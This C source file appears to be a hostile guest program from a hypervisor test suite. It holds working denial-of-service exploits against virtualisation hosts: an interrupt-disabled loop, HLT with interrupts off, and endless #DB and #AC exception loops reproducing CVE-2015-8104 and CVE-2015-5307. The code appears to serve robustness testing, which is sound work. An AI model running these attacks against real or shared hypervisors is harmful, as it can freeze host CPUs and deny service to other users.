/* SPDX-License-Identifier: MIT */
/*
 * Attack, by how=: 1: a loop and 2: HLT with interrupts off; 3: #DB whose delivery writes to a
 * watched stack, so that it causes the next (CVE-2015-8104); 4: #AC handled at CPL 3 by code that
 * is unaligned itself (CVE-2015-5307: without an exit for #AC no interrupt window may ever come;
 * the delivery alone can't be made unaligned here, 64-bit mode aligns the stack). Endless, but for
 * limit=: so many #AC.
 */
#include "guests/lib/guest.h"

#define DR7_L0_WRITE8 (1ull | 1ull << 16 | 2ull << 18)
#define DR7_RESET 0x400ull
#define USER_CODE (35ull << 16)
#define ENOUGH 1000u
#define STACK_IST 3u

static uint8_t stack[8192] __attribute__((aligned(4096)));
static uint64_t pair[2];
volatile uint64_t hostile_deliveries, hostile_limit;
void hostile_ac_entry(void);

static void on_debug(struct guest_frame *frame)
{
    if (++hostile_deliveries == ENOUGH)
        guest_printf("%lu deliveries of #DB\n", hostile_deliveries);
    frame->rflags |= RFLAGS_RF;
    *(volatile uint64_t *)(stack + 4096 - 8) = 0;
}

static void endless_debug(void)
{
    guest_on_vector(VECTOR_DB, on_debug);
    guest_use_stack(VECTOR_DB, STACK_IST, stack + 4096);
    write_dr0((uint64_t)(uintptr_t)(stack + 4096 - 8)); /* where delivery pushes SS */
    write_dr7(DR7_RESET | DR7_L0_WRITE8);
    *(volatile uint64_t *)(stack + 4096 - 8) = 1;
}

/* No stack is used before the unaligned access: the frame of the last time may be overwritten. */
__asm__(".text\n"
        ".globl hostile_ac_entry\n"
        "hostile_ac_entry:\n"
        "        incq    hostile_deliveries\n"
        "        movq    hostile_deliveries, %rax\n"
        "        cmpq    hostile_limit, %rax\n"
        "        je      1f\n"
        "        movl    pair_plus_one, %eax\n"
        "        ud2\n"
        "1:      int     $0x7f\n"
        ".data\n"
        "        .balign 8\n"
        "        .byte   0\n"
        "pair_plus_one: .long 0\n"
        ".text\n");

static void unaligned(void *arg)
{
    __asm__ volatile("pushfq; orl $0x40000, (%%rsp); popfq; movl 1(%0), %%eax"
                     : : "r"(arg) : "memory", "rax");
}

static void endless_alignment(void)
{
    uint64_t *gate = guest_gate(VECTOR_AC), entry = (uint64_t)(uintptr_t)hostile_ac_entry;

    gate[0] = (entry & 0xffff) | USER_CODE | (gate[0] & 0xffff00000000) | entry >> 16 << 48;
    guest_use_stack(VECTOR_AC, STACK_IST, stack + 4096);
    write_cr0(read_cr0() | CR0_AM);
    guest_catch_user(unaligned, pair, NULL);
    if (guest_in_qemu_tcg() && hostile_deliveries == 0) {
        guest_printf("QEMU has no alignment checks\n");
        return;
    }
    guest_printf("%lu deliveries of #AC\n", hostile_deliveries);
}

int guest_main(const struct mullion_flat_info *info)
{
    uint64_t how = guest_option(info, "how", 4);

    hostile_limit = guest_option(info, "limit", 0);
    guest_printf("attack %lu\n", how);
    if (how == 1)
        __asm__ volatile("cli; 1: jmp 1b");
    if (how == 2)
        __asm__ volatile("cli; hlt");
    if (how == 3)
        endless_debug();
    if (how == 4)
        endless_alignment();
    return how == 4 ? 0 : 1;
}
